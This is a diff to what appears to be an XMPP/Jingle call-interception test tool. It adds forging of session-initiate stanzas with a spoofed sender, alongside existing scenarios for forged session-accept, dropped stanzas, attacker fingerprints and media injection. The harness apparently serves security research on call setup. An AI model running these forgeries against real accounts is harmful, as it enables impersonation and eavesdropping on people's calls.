@@ -44,7 +44,8 @@ carbon <sent/>/<received/>):
                        put them into the same action's stanza of every later call (other sid)
   drop-session-accept  drop the session-accept (--ack-dropped: answer the sender with an IQ result
                        in the victim's name, as a server operator could)
-  forge-from-resource  inject a copy of the --stanza (session-accept|proceed) with `from` changed to
+  forge-from-resource  inject a copy of the --stanza (session-accept|proceed to the caller,
+                       session-initiate to the callee) with `from` changed to
   forge-from-jid       another resource of the same account / another JID (--forge-from), before
                        the original, which is delivered (--original deliver) or dropped (drop); the
                        victim's IQ answers to the forged sender are swallowed
@@ -485,9 +486,18 @@ def is_proceed(st: El) -> bool:
     return p is not None and p.tag == "proceed"
 
 
+def is_session_initiate(st: El) -> bool:
+    j = jingle(st)
+    return j is not None and j.get("action") == "session-initiate"
+
+
+FORGEABLE = {"session-accept": is_session_accept, "session-initiate": is_session_initiate, "proceed": is_proceed}
+
+
 def forge_from(st: El, new_from: str, which: str = "session-accept") -> Optional[El]:
-    """A copy of the session-accept (or proceed, which='proceed') with `from` set to new_from."""
-    hit = is_session_accept(st) if which == "session-accept" else is_proceed(st)
+    """A copy of the session-accept (or proceed / session-initiate, per `which`) with `from` set
+    to new_from. session-initiate is the callee-side forgery (it is delivered to the callee)."""
+    hit = FORGEABLE[which](st)
     if not hit:
         return None
     out = st.copy()
@@ -1397,7 +1407,7 @@ def parse_args(argv: Optional[Sequence[str]] = None) -> Tuple[argparse.Namespace
     ap.add_argument("--attacker-fingerprint", default=DEFAULT_ATTACKER_FINGERPRINT, help="SHA-256 hex, colons optional")
     ap.add_argument("--attacker-addr", default="127.0.0.1:9", help="IP:PORT for replace-candidates")
     ap.add_argument("--device-id", help="change-device: the new id (default: old id + 1)")
-    ap.add_argument("--stanza", choices=("session-accept", "proceed"), default="session-accept", help="what the forge-* scenarios copy")
+    ap.add_argument("--stanza", choices=tuple(FORGEABLE), default="session-accept", help="what the forge-* scenarios copy")
     ap.add_argument("--forge-from", help="forge-*: the forged sender (default: BARE/mitm-forged or mallory@DOMAIN/mitm)")
     ap.add_argument("--original", choices=("deliver", "drop"), default="deliver", help="forge-*: also deliver the genuine stanza (after the forged one) or drop it")
     ap.add_argument("--tone", type=float, default=660.0, help="media-mitm: the attacker's tone to both sides (Hz)")
